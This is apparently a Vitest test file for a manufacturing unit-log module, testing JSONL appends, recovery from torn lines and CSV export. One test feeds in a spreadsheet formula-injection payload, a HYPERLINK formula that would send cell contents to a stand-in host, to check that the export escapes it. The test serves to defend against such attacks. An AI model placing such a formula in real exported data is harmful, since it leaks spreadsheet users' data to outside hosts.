import { describe, expect, it } from 'vitest';
import { appendFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { UnitLog, csvField, parseUnitLog, readUnitLog, unitsToCsv, type UnitRecord } from '../../src-main/production/unit-log.js';

function record(i: number, over: Partial<UnitRecord> = {}): UnitRecord {
  return {
    v: 1,
    time: `2026-01-02T03:04:0${i}.000Z`,
    station: 'bench, "A"',
    recipe: { name: 'demo', version: '1.0.0', sha256: 'a'.repeat(64) },
    firmwareSha256: 'b'.repeat(64),
    loaderSha256: null,
    serial: `SN${i}`,
    chipId: '0x449',
    result: 'PASS',
    error: null,
    stageMs: { rom: 1234.5, leave: 8 },
    bytesWritten: 1000 + i,
    bytesVerified: 1000 + i,
    durationMs: 1250.4,
    ...over,
  };
}

const tmpLog = () => join(mkdtempSync(join(tmpdir(), 'bb-log-')), 'units.jsonl');

describe('unit log', () => {
  it('writes one complete line per unit and appends across runs, never rewriting', () => {
    const path = tmpLog();
    new UnitLog(path).append(record(1));
    const before = readFileSync(path, 'utf8');
    // A second run (a new UnitLog on the same file) appends.
    const second = new UnitLog(path);
    second.append(record(2));
    second.append(record(3, { result: 'FAIL', error: { code: 'VERIFY_MISMATCH', message: 'QSPI differs' } }));
    const text = readFileSync(path, 'utf8');
    expect(text.startsWith(before)).toBe(true);
    expect(text.endsWith('\n')).toBe(true);
    expect(text.split('\n').filter(Boolean)).toHaveLength(3);
    expect(readUnitLog(path).records.map((r) => `${r.serial} ${r.result}`)).toEqual(['SN1 PASS', 'SN2 PASS', 'SN3 FAIL']);
  });

  it('a torn last line (crash mid-write) does not break reading, exporting, or the next append', () => {
    const path = tmpLog();
    const log = new UnitLog(path);
    log.append(record(1));
    log.append(record(2));
    const full = JSON.stringify(record(3));
    appendFileSync(path, full.slice(0, full.length >> 1)); // power cut mid-write
    const read = readUnitLog(path);
    expect(read.records.map((r) => r.serial)).toEqual(['SN1', 'SN2']);
    expect(read.skipped).toEqual([{ line: 3, reason: expect.stringContaining('torn') }]);
    expect(unitsToCsv(read.records).split('\r\n').filter(Boolean)).toHaveLength(3);
    // The next station run ends the torn line first, so its record is not glued to the fragment.
    new UnitLog(path).append(record(4));
    const after = readUnitLog(path);
    expect(after.records.map((r) => r.serial)).toEqual(['SN1', 'SN2', 'SN4']);
    expect(after.skipped.map((s) => s.line)).toEqual([3]);
  });

  it('skips damaged lines and lines that are not unit records', () => {
    const got = parseUnitLog(`${JSON.stringify(record(1))}\n{"hello":1}\nnot json\n${JSON.stringify(record(2))}\n`);
    expect(got.records.map((r) => r.serial)).toEqual(['SN1', 'SN2']);
    expect(got.skipped.map((s) => s.line)).toEqual([2, 3]);
  });

  it('exports CSV with a header, RFC 4180 quoting and the stage timings', () => {
    const csv = unitsToCsv([record(1), record(2, { result: 'FAIL', error: { code: 'DFU_STATUS', message: 'errWRITE: line 1,\nline "2"' } })]);
    const rows = csv.split('\r\n');
    expect(rows[0]).toBe(
      'time,station,recipe_name,recipe_version,recipe_sha256,firmware_sha256,loader_sha256,serial,chip_id,result,error_code,error_message,error_stage,error_phase,error_address,stage_rom_ms,stage_staging_ms,stage_loader_ms,stage_leave_ms,bytes_written,bytes_verified,duration_ms',
    );
    expect(rows[1]).toBe(`2026-01-02T03:04:01.000Z,"bench, ""A""",demo,1.0.0,${'a'.repeat(64)},${'b'.repeat(64)},,SN1,0x449,PASS,,,,,,1235,,,8,1001,1001,1250`);
    expect(csv).toContain(`FAIL,DFU_STATUS,"errWRITE: line 1,\nline ""2""",,,,`);
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a\rb')).toBe('"a\rb"');
  });

  it('records where a unit failed (stage, phase, address) in the log and as CSV columns', () => {
    const failed = record(2, { station: 'bench', result: 'FAIL', error: { code: 'DFU_STATUS', message: 'errWRITE', stage: 'loader', phase: 'write', address: '0x90001000' } });
    const path = tmpLog();
    new UnitLog(path).append(failed);
    expect(readUnitLog(path).records[0]!.error).toEqual({ code: 'DFU_STATUS', message: 'errWRITE', stage: 'loader', phase: 'write', address: '0x90001000' });
    const [header, row] = unitsToCsv([failed]).split('\r\n');
    const cols = header!.split(',');
    const cells = row!.split(',');
    const cell = (name: string) => cells[cols.indexOf(name)];
    expect([cell('error_code'), cell('error_stage'), cell('error_phase'), cell('error_address')]).toEqual(['DFU_STATUS', 'loader', 'write', '0x90001000']);
  });

  it('reads and exports logs written before errors carried their stage (the fields are optional)', () => {
    const old = JSON.stringify(record(1, { result: 'FAIL', error: { code: 'VERIFY_MISMATCH', message: 'differs' } }));
    const got = parseUnitLog(old + '\n');
    expect(got.records).toHaveLength(1);
    expect(unitsToCsv(got.records)).toContain('FAIL,VERIFY_MISMATCH,differs,,,,');
  });

  it('text that a spreadsheet would run as a formula is exported as text; numbers stay numbers', () => {
    const evil = '=HYPERLINK("http://x.example/?d="&A1,"click")';
    const r = record(3, { station: evil, serial: '+SN3', result: 'FAIL', error: { code: 'DFU_STATUS', message: '@SUM(1+1)' } });
    const csv = unitsToCsv([r]);
    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?d=""&A1,""click"")"`);
    expect(csv).toContain(`,'+SN3,`);
    expect(csv).toContain(`,'@SUM(1+1),`);
    expect(csv).not.toMatch(/(^|,)[=+@]/m);
    for (const lead of ['=', '+', '-', '@', '\t']) expect(csvField(`${lead}1`)).toBe(`'${lead}1`);
    expect(csvField('\r1')).toBe(`"'\r1"`);
    // A number is not text from a device or an operator: a negative number stays a number.
    expect(csvField(-5)).toBe('-5');
    expect(csvField('a-b=c')).toBe('a-b=c');
  });

  it('an unwritable log is a FILE_ERROR naming the file', () => {
    const dir = mkdtempSync(join(tmpdir(), 'bb-log-'));
    writeFileSync(join(dir, 'file'), '');
    const path = join(dir, 'file', 'units.jsonl');
    expect(() => new UnitLog(path).append(record(1))).toThrow(expect.objectContaining({ code: 'FILE_ERROR', context: expect.objectContaining({ file: path }) }));
  });
});
